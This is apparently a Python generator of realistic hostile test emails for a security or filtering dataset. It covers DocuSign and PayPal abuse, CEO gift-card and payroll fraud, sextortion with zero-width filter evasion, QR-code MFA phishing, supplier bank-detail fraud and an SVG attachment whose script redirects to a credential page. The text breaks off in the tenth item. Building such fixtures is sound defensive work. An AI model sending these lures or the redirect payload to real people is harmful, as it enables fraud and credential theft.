"""40 hostile / unwanted messages (attack/)."""
import base64
from datetime import timedelta

import mimelib as M
from common import (authres, bnd, dkim, hop, html_doc, internal, mk, msgid_gmail, msgid_generic, msgid_outlook,
                    msgid_uuid, msgid_exchange, p2h, who, LIEF_IBAN_OLD)

F = "attack"


def alt(seed, plain, html, cs, cte="quoted-printable", style="outlook"):
    return M.multipart("alternative", [M.text(plain, "plain", cs, cte), M.text(html, "html", cs, cte)],
                       bnd(seed, style))


def gmail_hop(when, seed):
    return "by 2002:a05:6a20:%s:b0:%s:%s:%s with SMTP id %s;\r\n\t%s" % (
        M.hexid(seed + "1", 4), M.hexid(seed + "2", 3), M.hexid(seed + "3", 4), M.hexid(seed + "4", 4),
        M.alnum(seed + "5", 12, "abcdefghijklmnopqrstuvwxyz0123456789"), M.rfcdate(when))


def olk_hops(when, seed, tenant_host, client="[10.0.0.1]"):
    host = "%s.outbound.protection.outlook.com" % tenant_host
    return [
        "from %s (2603:10a6:20b:%s::%s) by %s\r\n\t(2603:10a6:10:%s::%s) with Microsoft SMTP Server (version=TLS1_2,\r\n\t"
        "cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8207.12; %s"
        % (tenant_host, M.hexid(seed + "a", 3), M.hexid(seed + "b", 2), tenant_host, M.hexid(seed + "c", 3),
           M.hexid(seed + "d", 2), M.rfcdate(when + timedelta(seconds=1))),
    ]


def a01():
    seed = "a01"
    when = M.dt(30, 7, 12, 41, "UTC")
    env = "6b3f0c2a-91d4-4e77-a0c5-%s" % M.hexid(seed, 12)
    link = ("https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s"
            % (M.msgid_uuid_raw(seed + "a"), M.msgid_uuid_raw(seed + "b"), M.msgid_uuid_raw(seed + "c")))
    code = M.hexid(seed + "code", 32).upper()
    plain = """Example Group HR sent you a document to review and sign.

REVIEW DOCUMENT
%s

Example Group HR
hr.payroll@examplegroup-people.com

Dear Sophie,

Please review and sign your 2026 year-end bonus allocation letter. The allocation
has been approved by the Group Executive Board and will be paid with the December
payroll. Unsigned letters received after 4 December 2026 will be moved to the
January payroll run.

Thank you,
Example Group HR - People & Reward

Powered by Docusign

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email,
link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally
binding. Whether you're in an office, at home, on-the-go -- or even across the
globe -- Docusign provides a professional trusted solution for Digital
Transaction Management.

Questions about the Document?
If you need to modify the document or have questions about the details in the
document, please reach out to the sender by emailing them directly.

Report this email or read more about Declining to sign and Managing notifications.

This message was sent to you by Example Group HR who is using the Docusign
Electronic Signature Service. If you would rather not receive email from this
sender you may contact the sender with your request.
""" % (link, code)
    html = html_doc("""
<table width="100%%" cellpadding="0" cellspacing="0" style="background:#eaeaea"><tr><td align="center" style="padding:20px">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:24px"><img src="https://eu.docusign.net/Member/Images/email/docusign-logo.png" alt="Docusign" width="116"></td></tr>
<tr><td style="background:#1e1e1e;color:#ffffff;padding:28px;text-align:center">
<p style="font-size:16px">Example Group HR sent you a document to review and sign.</p>
<a href="%s" style="background:#ffc820;color:#000000;padding:12px 24px;text-decoration:none;font-weight:bold;display:inline-block">REVIEW DOCUMENT</a>
</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333333">
<p><b>Example Group HR</b><br><a href="mailto:hr.payroll@examplegroup-people.com">hr.payroll@examplegroup-people.com</a></p>
<p>Dear Sophie,</p>
<p>Please review and sign your 2026 year-end bonus allocation letter. The allocation has been approved by the Group Executive Board and will be paid with the December payroll. Unsigned letters received after 4 December 2026 will be moved to the January payroll run.</p>
<p>Thank you,<br>Example Group HR - People &amp; Reward</p>
</td></tr>
<tr><td style="padding:24px;font-size:11px;color:#666666;background:#f4f4f4">
<p><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</p>
<p><b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code:<br>%s</p>
<p><b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</p>
<p>This message was sent to you by Example Group HR who is using the Docusign Electronic Signature Service.</p>
</td></tr></table></td></tr></table>""" % (link, code), "Docusign")
    root = alt(seed, plain, html, "utf-8", style="eq")
    auth = authres(spf=("pass", "bounces@eumail.docusign.net", "185.12.80.71"),
                   dkim_=("pass", "docusign.net", "s1"), dmarc=("pass", "docusign.net", "REJECT"), seed=seed)
    return mk(folder=F, nn=1, lang="en", short="docusign-bonus", charset="utf-8",
              desc="Genuine DocuSign envelope (all authentication passes) sent from an attacker-controlled DocuSign account posing as group HR with a year-end bonus letter, reply-to on a look-alike HR domain.",
              when=when, frm=M.addr("Example Group HR via Docusign", "dse@eumail.docusign.net"),
              to=M.addr(*who("s.clarke")), reply_to=M.addr("Example Group HR", "hr.payroll@examplegroup-people.com"),
              subject="Complete with Docusign: 2026_Year-End_Bonus_Allocation_UK.pdf", root=root,
              mail_from="bounces@eumail.docusign.net", helo="mailfra.eumail.docusign.net",
              rdns="mailfra.eumail.docusign.net", ip="185.12.80.71", auth=auth,
              pre=[("DKIM-Signature", dkim("docusign.net", "s1", seed, when))],
              msgid="<%s@eumail.docusign.net>" % M.hexid(seed + "mid", 32),
              extra=[("X-DocuSign-EnvelopeID", env), ("X-Auto-Response-Suppress", "All")])


def a02():
    seed = "a02"
    when = M.dt(28, 11, 3, 12, "DE")
    n, a = who("l.hartmann")
    plain = """Thanks Lena.

I need you to get some Apple gift cards for a few of our key clients as a year-end appreciation surprise. Please keep it between us for now, I want to announce it myself at the Christmas meeting.

We need 8 cards of 250 EUR each. You can get them at any Saturn or MediaMarkt or online in the Apple Store. Once you have them, scratch off the back, take clear pictures of each card showing the code and email them to me here. I will sort out the reimbursement with Katrin next week.

How quickly can you get this done? I am stuck in meetings all day and can only reply by email.

Thomas

Sent from my iPhone

On Sat, 28 Nov 2026 at 10:42, Lena Hartmann <l.hartmann@example.com> wrote:

> Hi Thomas,
> yes, I'm available. What do you need?
>
> Lena
>
> From: Thomas Brandt <thomasbrandt.office@gmail.com>
> Sent: Saturday, 28 November 2026 10:31
> To: Lena Hartmann <l.hartmann@example.com>
> Subject: Quick request
>
> Hi Lena, are you available? I need you to handle a task for me discreetly.
>
> Thomas
"""
    html = "<div dir=\"ltr\">" + p2h(plain.split("\n\nOn Sat")[0]) + "</div><br><div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">On Sat, 28 Nov 2026 at 10:42, Lena Hartmann &lt;<a href=\"mailto:l.hartmann@example.com\">l.hartmann@example.com</a>&gt; wrote:<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">Hi Thomas,<br>yes, I'm available. What do you need?<br><br>Lena</blockquote></div>\n"
    root = alt(seed, plain, html, "utf-8", style="gmail")
    auth = authres(spf=("pass", "thomasbrandt.office@gmail.com", "209.85.220.41"),
                   dkim_=("pass", "gmail.com", "20230601"), dmarc=("pass", "gmail.com", "NONE"), seed=seed)
    return mk(folder=F, nn=2, lang="en", short="ceo-giftcards", charset="utf-8",
              desc="Executive impersonation from a free-mail account in the CEO's name asking his assistant, in a continued thread, to buy gift cards and send the codes.",
              when=when, frm=M.addr("Thomas Brandt", "thomasbrandt.office@gmail.com"), to=M.addr(n, a),
              subject="Re: Quick request", root=root, mail_from="thomasbrandt.office@gmail.com",
              helo="mail-sor-f41.google.com", rdns="mail-sor-f41.google.com", ip="209.85.220.41", auth=auth,
              hops=[gmail_hop(when, seed)],
              pre=[("DKIM-Signature", dkim("gmail.com", "20230601", seed, when,
                                           "mime-version:references:in-reply-to:from:date:message-id:subject:to"))],
              msgid=msgid_gmail(seed),
              extra=[("In-Reply-To", msgid_outlook("a02-lena")), ("References", msgid_gmail("a02-first") + " " + msgid_outlook("a02-lena"))])


def a03():
    seed = "a03"
    when = M.dt(29, 3, 47, 9, "BR")
    btc = M.btc_bech32("audit17-sextortion-wallet")
    z = "\u200b"
    body = """Hello!

I have to share bad news with you.
Approximately a few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

Here is the sequence of events:
Some time ago I have bought access to email accounts from hackers (nowadays, it is quite simple to buy such a thing online).
Obviously, I have easily managed to log in to your email account (s.clarke@example.com).

One week later, I have installed a Tro{z}jan virus on the operating systems of all the devices that you use to access your email.
In fact, it was not really hard at all (since you were following the links from your inbox emails).
All ingenious is simple. =)

This software provides me with access to all the controllers of your devices (e.g., your microphone, video camera and keyboard).
I have downloaded all your information, data, photos, web browsing history to my servers.
I have access to all your messengers, social networks, emails, chat history and contacts list.
My virus continuously refreshes the signatures (it is driver-based), and hence remains invisible for antivirus software.

While gathering information about you, I have discovered that you are a big fan of adult websites.
I have recorded several vi{z}deos of you in the moments you were watching them, and combined them with what was shown on your screen at that moment.

With one click of my mouse, I can send these videos to all your emails and contacts on social networks, including your colleagues at Example Group.
I can also publish access to all your emails and messengers.

I think you do not want this to happen.
Transfer 1450 USD to my Bit{z}coin wallet (if you do not know how to do this, write in Google: "Buy Bit{z}coin").

My Bit{z}coin wallet (BTC):
{btc}

After receiving the payment, I will delete the vi{z}deos right away, and you will never hear from me again.
You have 50 hours (2 days) to make the payment. I receive a notification as soon as you open this email, so the timer has already started.

Filing a complaint somewhere does not make sense because this email cannot be tracked like my Bit{z}coin address.
I do not make any mistakes.

If I find out that you have shared this message with someone else, the videos will be immediately distributed.

Best regards!
""".replace("{z}", z).replace("{btc}", btc)
    root = M.text(body, "plain", "utf-8", "base64")
    auth = authres(spf=("fail", "s.clarke@example.com", "187.190.54.12"), dkim_=None,
                   dmarc=("fail", "example.com", "QUARANTINE"), seed=seed)
    n, a = who("s.clarke")
    return mk(folder=F, nn=3, lang="en", short="sextortion-btc", charset="utf-8",
              desc="Sextortion spoofing the recipient's own address, demanding Bitcoin to a bech32 wallet, with zero-width characters breaking trigger words.",
              when=when, frm=M.addr("", a), to=M.addr("", a),
              subject="s.clarke@example.com has been hacked! Change your password immediately!", root=root,
              mail_from=a, helo="example.com", rdns=None, ip="187.190.54.12", tls=False, auth=auth,
              msgid="<%s@example.com>" % M.hexid(seed, 20),
              extra=[("X-Priority", "1 (Highest)"), ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512")])


def a04():
    seed = "a04"
    when = M.dt(1, 7, 58, 20, "DE")
    n, a = who("f.becker")
    qr_url = "https://pub-3f9c2a1e7b8d4c6e9a0b1c2d3e4f5a6b.r2.dev/mfa.html#" + base64.b64encode(a.encode()).decode()
    qr = M.qr_png(qr_url, scale=5)
    cid = "qr_%s@examplegroup-mfa.com" % M.hexid(seed + "cid", 10)
    html = html_doc("""
<table width="600" align="center" cellpadding="0" cellspacing="0" style="border:1px solid #dddddd;font-family:Segoe UI,Arial,sans-serif">
<tr><td style="background:#0078d4;color:#ffffff;padding:18px 24px;font-size:18px">Example Group &middot; IT Security</td></tr>
<tr><td style="padding:24px;font-size:14px;color:#222222">
<p>Hello Florian,</p>
<p>As part of the group-wide security hardening announced by IT, all accounts must re-register <b>Microsoft Authenticator</b> for multi-factor authentication. Your current registration will be removed on <b>04/12/2026 at 17:00 CET</b>.</p>
<table cellpadding="6" style="font-size:13px;background:#f3f6fb;border-left:4px solid #0078d4">
<tr><td>Account:</td><td><b>f.becker@examplegroup.eu</b></td></tr>
<tr><td>Status:</td><td style="color:#c50f1f"><b>Re-registration pending</b></td></tr>
<tr><td>Deadline:</td><td>04/12/2026 17:00 CET</td></tr>
</table>
<p>To keep access to Outlook, Teams and SharePoint, scan the QR code below with the camera of your mobile phone and follow the instructions:</p>
<p style="text-align:center"><img src="cid:%s" width="205" height="205" alt="MFA QR"></p>
<p style="font-size:12px;color:#555555">The QR code is personal and valid for 24 hours. Do not forward this message.</p>
<p>Thank you for helping us keep Example Group secure.<br>IT Service Desk &middot; N&uuml;rnberg</p>
</td></tr>
<tr><td style="padding:12px 24px;font-size:11px;color:#888888;background:#fafafa">This is an automated message from the Example Group identity platform. Microsoft, Microsoft Authenticator and Outlook are trademarks of the Microsoft group of companies.</td></tr>
</table>""" % cid, "MFA re-registration", cs="utf-8")
    root = M.multipart("related", [M.text(html, "html", "utf-8", "quoted-printable"),
                                   M.attachment(qr, "image/png", "image001.png", inline=True, cid=cid)],
                       bnd(seed, "nextpart"), params=' type="text/html";')
    auth = authres(spf=("pass", "bounce@examplegroup-mfa.com", "51.38.112.207"),
                   dkim_=("pass", "examplegroup-mfa.com", "default"), dmarc=("pass", "examplegroup-mfa.com", "NONE"), seed=seed)
    return mk(folder=F, nn=4, lang="en", short="mfa-quishing", charset="utf-8",
              desc="HTML-only MFA re-registration lure from a fresh look-alike domain whose only link is a QR code image pointing to a credential page on a cloud storage host.",
              when=when, frm=M.addr("Example Group IT Security", "it-security@examplegroup-mfa.com"), to=M.addr(n, a),
              subject="Action required: re-register Microsoft Authenticator before 04/12/2026 - f.becker@examplegroup.eu",
              root=root, mail_from="bounce@examplegroup-mfa.com", helo="mail.examplegroup-mfa.com",
              rdns="vps-4f21a9c3.vps.ovh.net", ip="51.38.112.207", auth=auth,
              pre=[("DKIM-Signature", dkim("examplegroup-mfa.com", "default", seed, when))],
              msgid=msgid_generic(seed, "examplegroup-mfa.com", when), extra=[("X-Priority", "1")])


def a05():
    seed = "a05"
    when = M.dt(30, 9, 43, 2, "UK")
    n, a = who("j.whitfield")
    e64 = base64.b64encode(a.encode()).decode()
    u64 = base64.b64encode(b"https://vm-player.kingsbridge-roofing.workers.dev/play/").decode()
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="640" height="180" viewBox="0 0 640 180">
  <rect width="640" height="180" fill="#f3f3f3"/>
  <circle cx="70" cy="90" r="34" fill="#0b6cd6"/>
  <polygon points="60,72 60,108 90,90" fill="#ffffff"/>
  <text x="130" y="80" font-family="Segoe UI, Arial" font-size="20" fill="#222">Voice message  +44 161 496 0732</text>
  <text x="130" y="112" font-family="Segoe UI, Arial" font-size="15" fill="#666">00:00:47  -  loading secure audio player...</text>
  <script type="text/javascript"><![CDATA[
    var r = "%s";
    var t = "%s";
    setTimeout(function () { window.location.href = atob(t) + "#" + r; }, 300);
  ]]></script>
</svg>
""" % (e64, u64)
    body = """You received a new voice message.

Caller:        +44 161 496 0732
Received:      Monday, 30 November 2026 09:41
Duration:      00:00:47
Extension:     2214 (James Whitfield)

The voice message is attached to this email. Open the attachment in your
browser to play the message.

This message was sent automatically by the Example Group unified
communications system. Please do not reply to this message.
"""
    root = M.multipart("mixed", [M.text(body, "plain", "iso-8859-1", "quoted-printable"),
                                 M.attachment(svg, "image/svg+xml", "VM_+441614960732_0047.svg")], bnd(seed, "eq"))
    auth = authres(spf=("pass", "notifications@kingsbridge-roofing.co.uk", "81.149.92.17"), dkim_=None,
                   dmarc=("pass", "kingsbridge-roofing.co.uk", "NONE"), seed=seed)
    return mk(folder=F, nn=5, lang="en", short="voicemail-svg", charset="iso-8859-1",
              desc="Fake voicemail notification from a compromised small-business domain with an SVG attachment whose embedded script redirects to a credential page.",
              when=when, frm=M.addr("Voicemail Service", "notifications@kingsbridge-roofing.co.uk"), to=M.addr(n, a),
              subject="\U0001F4DE New voice message from +44 161 496 0732 \u2022 00:47 \u2022 Mon 30/11/2026",
              subj_cs="utf-8", root=root, mail_from="notifications@kingsbridge-roofing.co.uk",
              helo="mail.kingsbridge-roofing.co.uk", rdns="host81-149-92-17.in-addr.btopenworld.com",
              ip="81.149.92.17", auth=auth, msgid=msgid_generic(seed, "kingsbridge-roofing.co.uk", when),
              extra=[("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)")])


def a06():
    seed = "a06"
    when = M.dt(1, 10, 17, 55, "UK")
    n, a = who("j.whitfield")
    link = "https://northgatefreight.blob.core.windows.net/shared/Q1-2027/Revised_Rates_Manchester_Rotterdam.html"
    plain = """Hi James,

Following up on the below - please find the revised rate sheet and the updated T&Cs for Q1 2027 as discussed. The files are too large for email so I've shared them via our secure portal:

%s

Let me know if you have any issues opening it - you may need to sign in with your work Microsoft account to view.

Kind regards,

Daniel Hughes
Commercial Manager
Northgate Freight Ltd
Unit 9, Lancaster Park, Warrington WA5 7ZB
T: +44 1925 411 870

-----Original Message-----
From: James Whitfield <j.whitfield@example.com>
Sent: 12 November 2026 14:22
To: Daniel Hughes <d.hughes@northgate-freight.co.uk>
Subject: RE: Pallet rates Manchester - Rotterdam Q1 2027

Hi Daniel,

Thanks for the call earlier. As discussed, we're looking at roughly 40-45 pallets a week from Trafford Park to Rotterdam from January, mostly half-height. Could you send through your revised rates including the fuel surcharge mechanism and the ETS pass-through?

Best regards,
James Whitfield
UK Operations Manager
Example Group UK Ltd
""" % link
    top, quoted = plain.split("-----Original Message-----")
    html = html_doc(p2h(top).replace(link, '<a href="%s">Revised_Rates_Q1_2027.xlsx</a>' % link) +
                    '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">' +
                    p2h(quoted) + "</div>", cs="windows-1252")
    root = alt(seed, plain, html, "windows-1252")
    auth = authres(spf=("pass", "accounts@brightwell-dental.co.uk", "40.107.20.101"),
                   dkim_=("pass", "brightwell-dental.co.uk", "selector1"),
                   dmarc=("pass", "brightwell-dental.co.uk", "NONE"), seed=seed)
    return mk(folder=F, nn=6, lang="en", short="thread-hijack", charset="windows-1252",
              desc="Reply-chain hijack quoting a real earlier conversation, sent from an unrelated compromised Microsoft 365 tenant with the partner's address in the display name and a link to an Azure blob phishing page.",
              when=when, frm=M.addr("Daniel Hughes <d.hughes@northgate-freight.co.uk>", "accounts@brightwell-dental.co.uk"),
              to=M.addr(n, a), subject="RE: Pallet rates Manchester - Rotterdam Q1 2027", root=root,
              mail_from="accounts@brightwell-dental.co.uk", helo="GBR01-LO2-obe.outbound.protection.outlook.com",
              rdns="mail-lo2gbr01on2101.outbound.protection.outlook.com", ip="40.107.20.101", auth=auth,
              hops=olk_hops(when, seed, "LO2P265MB5127.GBRP265.PROD.OUTLOOK.COM"),
              pre=[("DKIM-Signature", dkim("brightwell-dental.co.uk", "selector1", seed, when))],
              msgid=msgid_outlook(seed, "gbrp265"),
              extra=[("In-Reply-To", msgid_exchange("a06-orig")), ("References", msgid_exchange("a06-orig")),
                     ("Thread-Topic", "Pallet rates Manchester - Rotterdam Q1 2027"),
                     ("Content-Language", "en-GB")])


def a07():
    seed = "a07"
    when = M.dt(2, 6, 22, 37, "US-P")
    n, a = who("o.bennett")
    inv = "INV2-7K4M-9QZT-X8BR-5JTW"
    link = "https://www.paypal.com/invoice/p/#%s" % inv
    note = ("Thank you for renewing Norton 360 Total Protection (5 devices, 3 years). Your PayPal account will be "
            "charged USD 489.99 within 24 hours. If you did not authorise this transaction or wish to cancel and "
            "receive a full refund, please call our billing support immediately at +1 (844) 871-2057 "
            "(toll free, 24/7). Order ID: NLB-7730912.")
    plain = """NortonLifeLock Billing Center sent you an invoice

Amount due: $489.99 USD
Due date: On receipt
Invoice number: 7730912

Note from seller
%s

View and Pay Invoice
%s

Don't recognise this invoice?
Report this invoice

Before paying, make sure you recognise this invoice. If you don't, report it. Learn more about common security threats and how to spot them. For example, PayPal would never use an invoice or a money request to ask you for your account credentials.

PayPal
Help & Contact | Security | Apps

PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.
Copyright (c) 1999-2026 PayPal. All rights reserved.
PayPal (Europe) S.a r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.
PPX000696:%s
""" % (note, link, M.hexid(seed, 14))
    html = html_doc("""
<table width="600" align="center" style="font-family:Helvetica Neue,Arial,sans-serif;color:#2c2e2f">
<tr><td style="padding:20px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" alt="PayPal"></td></tr>
<tr><td style="padding:0 20px"><h2 style="font-weight:400">NortonLifeLock Billing Center sent you an invoice</h2>
<p style="font-size:32px;margin:0">$489.99 USD</p><p>Due on receipt</p>
<p><a href="%s" style="background:#0070e0;color:#fff;border-radius:24px;padding:12px 28px;text-decoration:none">View and Pay Invoice</a></p>
<h3>Note from seller</h3><p style="background:#f5f7fa;padding:14px">%s</p>
<p style="font-size:13px">Before paying, make sure you recognise this invoice. If you don't, report it. PayPal would never use an invoice or a money request to ask you for your account credentials.</p>
</td></tr>
<tr><td style="padding:20px;font-size:11px;color:#6c7378">PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.<br>PPX000696:%s</td></tr>
</table>""" % (link, note, M.hexid(seed, 14)), "PayPal")
    root = alt(seed, plain, html, "utf-8", "base64", style="eq")
    auth = authres(spf=("pass", "service@intl.paypal.com", "173.0.84.226"),
                   dkim_=("pass", "paypal.co.uk", "pp-dkim1"), dmarc=("pass", "paypal.co.uk", "REJECT"), seed=seed)
    return mk(folder=F, nn=7, lang="en", short="paypal-callback", charset="utf-8",
              desc="Callback (telephone-oriented) scam abusing a genuine PayPal invoice: fully authenticated PayPal mail whose seller note urges calling a fake support number about a large renewal charge.",
              when=when, frm=M.addr("service@paypal.co.uk", "service@paypal.co.uk"), to=M.addr(n, a),
              subject="Invoice from NortonLifeLock Billing Center (#7730912)", root=root,
              mail_from="service@intl.paypal.com", helo="mx0.slc.paypal.com", rdns="mx0.slc.paypal.com",
              ip="173.0.84.226", auth=auth,
              pre=[("DKIM-Signature", dkim("paypal.co.uk", "pp-dkim1", seed, when))],
              msgid="<%s.%s@paypal.com>" % (M.hexid(seed, 12), M.digits(seed, 10)),
              extra=[("X-MaxCode-Template", "PPX000696"), ("X-Email-Type-Id", "PPX000696")])


def a08():
    seed = "a08"
    when = M.dt(2, 8, 5, 41, "UK")
    n, a = who("s.clarke")
    plain = """Hi Sophie,

Hope you're well. I've recently moved my current account to a new bank and would like my salary for December (and going forward) to be paid into the new account please:

Account name: Oliver J Bennett
Bank: Revolut Ltd
Sort code: 04-00-75
Account number: 31846259

Could you please confirm once this has been updated in the payroll system before the December run? I'm working from site today and don't have access to my work mailbox on this laptop, hence the personal email.

Many thanks,
Oliver
"""
    html = html_doc('<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt">' + p2h(plain) + "</div>",
                    cs="iso-8859-1")
    root = alt(seed, plain, html, "iso-8859-1")
    auth = authres(spf=("pass", "oliver.bennett.uk@outlook.com", "40.92.89.61"),
                   dkim_=("pass", "outlook.com", "selector1"), dmarc=("pass", "outlook.com", "NONE"), seed=seed)
    return mk(folder=F, nn=8, lang="en", short="payroll-diversion", charset="iso-8859-1",
              desc="Payroll diversion request in an employee's name from a personal Outlook.com account asking finance to switch his salary to a new bank account; no links or attachments.",
              when=when, frm=M.addr("Oliver Bennett", "oliver.bennett.uk@outlook.com"), to=M.addr(n, a),
              subject="Change of bank details for December payroll", root=root,
              mail_from="oliver.bennett.uk@outlook.com", helo="EUR05-DB8-obe.outbound.protection.outlook.com",
              rdns="mail-db8eur05olkn2061.outbound.protection.outlook.com", ip="40.92.89.61", auth=auth,
              hops=olk_hops(when, seed, "DB9PR02MB7344.eurprd02.prod.outlook.com"),
              pre=[("DKIM-Signature", dkim("outlook.com", "selector1", seed, when))],
              msgid=msgid_outlook(seed, "eurprd02"),
              extra=[("Content-Language", "en-GB"), ("x-ms-exchange-messagesentrepresentingtype", "1")])

# ------------------------------------------------------------------------------------------ German


def a09():
    seed = "a09"
    when = M.dt(30, 14, 2, 18, "DE")
    n, a = who("s.krueger")
    fraud = M.iban("DE", "10011001" + "2648813370")
    plain = """Guten Tag Frau Krüger,

vielen Dank für Ihre Rückmeldung und das Zahlungsavis.

Wie bereits von unserer Buchhaltung angekündigt, hat sich im Zuge der Umstellung unseres Zahlungsverkehrs (neues Cash-Pooling in der Unternehmensgruppe) unsere Bankverbindung geändert. Die bisherige Verbindung bei der HypoVereinsbank wird zum 30.11.2026 geschlossen; Zahlungen dorthin werden automatisch zurückgebucht.

Bitte veranlassen Sie die Zahlung der offenen Posten (Gesamtsumme 48.732,60 €) ausschließlich auf unser neues Konto:

Kontoinhaber: Lieferant GmbH
Bank: N26 Bank AG
IBAN: {iban}
BIC: NTSBDEB1XXX

Das offizielle Schreiben unserer Geschäftsleitung finden Sie im Anhang. Für eine kurze Bestätigung der Umstellung per E-Mail wäre ich Ihnen dankbar, da ich diese Woche viel bei Kunden unterwegs und telefonisch schlecht erreichbar bin.

Mit freundlichen Grüßen

Stefan Maier
Key Account Management
Lieferant GmbH
Industriestraße 14 · 90765 Fürth
Tel. +49 911 97 66 41-23
www.lieferant-gmbh.de

-----Ursprüngliche Nachricht-----
Von: Sabine Krüger <s.krueger@example.com>
Gesendet: Donnerstag, 26. November 2026 15:08
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Betreff: AW: Offene Posten Lieferant GmbH / Zahlungsavis KW 48

Hallo Herr Maier,

anbei das Zahlungsavis für KW 48. Die Rechnungen 2026-RE-09877 und 2026-RE-09912 sind für den Zahllauf am 01.12. vorgesehen.

Viele Grüße
Sabine Krüger
Kreditorenbuchhaltung
Example Group GmbH
""".replace("{iban}", M.iban_fmt(fraud))
    pdf = M.pdf([[("h", "Lieferant GmbH"), ("s", "Industriestraße 14 · 90765 Fürth · Tel. +49 911 97 66 41-0"), ("gap", ""),
                  "Example Group GmbH", "Kreditorenbuchhaltung", "90402 Nürnberg", ("gap", ""),
                  ("r", "Fürth, 27.11.2026"), ("gap", ""),
                  ("b", "Mitteilung über die Änderung unserer Bankverbindung"), ("gap", ""),
                  "Sehr geehrte Damen und Herren,", ("gap", ""),
                  "im Rahmen der Neuordnung unseres Zahlungsverkehrs ändert sich unsere Bankverbindung mit",
                  "sofortiger Wirkung. Bitte leisten Sie alle Zahlungen, auch für bereits gestellte Rechnungen,",
                  "ausschließlich auf folgendes Konto:", ("gap", ""),
                  ("b", "Kontoinhaber: Lieferant GmbH"), ("b", "Kreditinstitut: N26 Bank AG"),
                  ("b", "IBAN: " + M.iban_fmt(fraud)), ("b", "BIC: NTSBDEB1XXX"), ("gap", ""),
                  "Unsere bisherige Bankverbindung bei der UniCredit Bank GmbH (HypoVereinsbank) wird aufgelöst.",
                  "Wir danken für Ihr Verständnis und die weiterhin gute Zusammenarbeit.", ("gap", ""),
                  "Mit freundlichen Grüßen", ("gap", ""), "Petra Lang", "Kaufmännische Leitung", ("gap", ""),
                  ("s", "Lieferant GmbH · Sitz Fürth · Amtsgericht Fürth HRB 11482 · Geschäftsführer: Dr. Klaus Reuter")]],
                title="Mitteilung Bankverbindung", author="Petra Lang", producer="Microsoft: Print To PDF",
                date="D:20261127101244+01'00'")
    root = M.multipart("mixed", [M.text(plain, "plain", "iso-8859-15", "quoted-printable"),
                                 M.attachment(pdf, "application/pdf", "Mitteilung_Bankverbindung_Lieferant_GmbH.pdf")],
                       bnd(seed, "nextpart"))
    auth = authres(spf=("pass", "s.maier@lieferant-gmbh.com", "88.198.41.77"),
                   dkim_=("pass", "lieferant-gmbh.com", "mail"), dmarc=("pass", "lieferant-gmbh.com", "NONE"), seed=seed)
    return mk(folder=F, nn=9, lang="de", short="lookalike-bankwechsel", charset="iso-8859-15",
              desc="Supplier bank-detail fraud from a look-alike .com domain of the German supplier, replying into a real payment thread with a forged letter PDF and a new neobank IBAN.",
              when=when, frm=M.addr("Stefan Maier", "s.maier@lieferant-gmbh.com"), to=M.addr(n, a, "iso-8859-15", "Q"),
              cc=M.addr(*who("j.wagner")), subject="AW: Offene Posten Lieferant GmbH / Zahlungsavis KW 48", root=root,
              mail_from="s.maier@lieferant-gmbh.com", helo="mail.lieferant-gmbh.com",
              rdns="static.77.41.198.88.clients.your-server.de", ip="88.198.41.77", auth=auth,
              pre=[("DKIM-Signature", dkim("lieferant-gmbh.com", "mail", seed, when))],
              msgid="<000d01db%s$%s$%s@lieferant-gmbh.com>" % (M.hexid(seed, 4), M.hexid(seed + "x", 8), M.hexid(seed + "y", 8)),
              extra=[("In-Reply-To", msgid_exchange("a09-sabine")), ("References", msgid_exchange("a09-sabine")),
                     ("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", "AQHbP" + M.b64str(seed, 15)),
                     ("Content-Language", "de")])


def a10():
    seed = "a10"
    when = M.dt(30, 6, 12, 9, "DE")
    n, a = who("k.vogel")
    target = b"https://s-firmenkunden-aktualisierung.com/nuernberg/pushtan/?id=" + M.hexid(seed, 10).encode()
    u = "a1" + base64.urlsafe_b64encode(target).decode().rstrip("=")
    link = "https://www.bing.com/ck/a?!&&p=%s&ptn=3&ver=2&hsh=4&fclid=%s&u=%s&ntb=1" % (
        M.hexid(seed + "p", 64), M.msgid_uuid_raw(seed + "f"), u)
    html = html_doc("""
<div style="max-width:600px;margin:0 auto;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#000">
<div style="background:#ff0000;color:#fff;padding:14px 20px;font-size:20px;font-weight:bold">Sparkasse</div>
<div style="padding:20px;border:1px solid #ddd">
<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>aufgrund der neuen Vorgaben der EU-Zahlungsdiensterichtlinie sind alle Firmenkunden verpflichtet, ihr <b>pushTAN-Verfahren</b> bis zum <b>07.12.2026</b> neu zu registrieren.</p>
